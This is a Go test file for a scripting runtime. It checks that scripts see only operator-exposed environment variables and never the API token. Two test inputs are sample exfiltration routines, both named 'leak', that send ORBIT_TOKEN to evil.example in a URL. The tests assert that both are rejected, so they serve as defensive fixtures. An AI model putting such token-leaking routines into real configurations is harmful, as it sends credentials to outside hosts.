package scripting

import (
	"context"
	"reflect"
	"strings"
	"testing"

	"github.com/orbit-sidecar/orbit/runtime/flow"
)

// exposeTest exposes the ORBIT_TEST_* variables tests set.
func exposeTest(t *testing.T) Env {
	t.Helper()
	e, err := ParseEnv("ORBIT_TEST_*")
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func mustEnv(t *testing.T, list string) Env {
	t.Helper()
	e, err := ParseEnv(list)
	if err != nil {
		t.Fatalf("ParseEnv(%q): %v", list, err)
	}
	return e
}

// env() returned any process variable, the API token included. Scripts
// read only what the operator exposes, and never the token.
func TestEnvReadsOnlyWhatIsExposed(t *testing.T) {
	t.Setenv("ORBIT_TOKEN", "s3cret-token")
	t.Setenv("SHOP_URL", "http://shop")
	t.Setenv("PAY_KEY", "k1")
	t.Setenv("PAY_URL", "http://pay")
	t.Setenv("HIDDEN_VALUE", "hidden")
	src := `routine "r" { lua = function()
  return { token = env("ORBIT_TOKEN"), shop = env("SHOP_URL"), key = env("PAY_KEY"), url = env("PAY_URL"),
           hidden = env("HIDDEN_VALUE"), unset = env("ORBIT_TEST_UNSET") }
end }`
	for _, c := range []struct {
		list string
		want map[string]any
	}{
		{"", map[string]any{}},
		{"SHOP_URL, PAY_*", map[string]any{"shop": "http://shop", "key": "k1", "url": "http://pay"}},
		{"*", map[string]any{"shop": "http://shop", "key": "k1", "url": "http://pay", "hidden": "hidden"}},
		{"ORBIT_TOKEN,ORBIT_*", map[string]any{}},
	} {
		var logs strings.Builder
		b, err := LoadSources([]flow.Source{{Path: "e.lua", Body: []byte(src)}},
			Options{Env: mustEnv(t, c.list), Logger: newTextLogger(&logs)})
		if err != nil {
			t.Fatal(err)
		}
		for range 2 {
			got, err := b.Routines["r"].Call(context.Background(), nil, nil)
			if err != nil || !reflect.DeepEqual(got, c.want) {
				t.Errorf("--script-env %q: %v, %v; want %v", c.list, got, err, c.want)
			}
		}
		if c.list == "SHOP_URL, PAY_*" && strings.Count(logs.String(), "variable=HIDDEN_VALUE") != 1 {
			t.Errorf("a hidden variable is reported once, logs:\n%s", logs.String())
		}
		if strings.Contains(logs.String(), "s3cret") {
			t.Errorf("the token reached the log:\n%s", logs.String())
		}
	}
}

// ${NAME} in an http routine is expanded by the same rule: a script could
// otherwise send the token to a host of its choice.
func TestEnvExpansionFollowsTheSameRule(t *testing.T) {
	t.Setenv("ORBIT_TOKEN", "s3cret-token")
	t.Setenv("SHOP_URL", "http://shop")
	t.Setenv("HIDDEN_URL", "http://hidden")
	env := mustEnv(t, "SHOP_URL,ORBIT_*")
	load := func(path, src string) (*flow.Bundle, error) {
		return LoadSources([]flow.Source{{Path: path, Body: []byte(src)}}, Options{Env: env, Logger: quietLogger})
	}
	b, err := load("h.lua", `routine "leak" { http = { url = "http://evil.example/?t=${ORBIT_TOKEN}" } }`)
	assertProblem(t, b, err, `h.lua:1: routine "leak", http: url: environment variable ORBIT_TOKEN is never exposed to scripts`)
	b, err = load("h.lua", `routine "h" { http = { url = "http://x/", headers = { A = "${HIDDEN_URL}" } } }`)
	assertProblem(t, b, err, `h.lua:1: routine "h", http: headers.A: environment variable HIDDEN_URL is not exposed to scripts (add it to --script-env)`)
	b, err = load("s.xml", `<config><routine xsi:type="WebAPIRoutine" name="leak" method="GET" url="http://evil.example/${ORBIT_TOKEN}"/></config>`)
	assertProblem(t, b, err, `s.xml:1: routine "leak": url: environment variable ORBIT_TOKEN is never exposed to scripts`)
	// A fallback stands in for a hidden variable, as for an unset one.
	if _, err := load("ok.lua", `routine "ok" { http = { url = "${HIDDEN_URL:-http://fallback}/${SHOP_URL}" } }`); err != nil {
		t.Errorf("fallback and exposed variable: %v", err)
	}
}

func TestParseEnv(t *testing.T) {
	e := mustEnv(t, "A_1,B_* \n C")
	if got := e.String(); got != "A_1,B_*,C" {
		t.Errorf("String() = %q", got)
	}
	for _, name := range []string{"A_1", "B_", "B_X", "C"} {
		if !e.Exposes(name) {
			t.Errorf("%s is not exposed", name)
		}
	}
	for _, name := range []string{"A", "B", "CC", "ORBIT_TOKEN"} {
		if e.Exposes(name) {
			t.Errorf("%s is exposed", name)
		}
	}
	for _, bad := range []string{"1A", "A-B", "A*B", "*A", "A**"} {
		if _, err := ParseEnv(bad); err == nil || !strings.Contains(err.Error(), "neither a variable name nor a PREFIX* pattern") {
			t.Errorf("ParseEnv(%q): %v", bad, err)
		}
	}
}
